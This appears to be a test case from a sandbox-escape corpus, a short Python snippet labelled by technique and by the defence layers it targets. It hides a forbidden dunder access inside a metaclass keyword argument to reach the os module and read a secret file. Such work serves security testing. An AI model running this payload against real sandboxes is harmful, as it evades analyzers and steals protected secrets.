# class: object graph walk
# technique: a forbidden attribute in a keyword of a class statement
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
class g(metaclass=lambda *parts, walked: walked, walked=quit.__init__.__globals__):
    pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
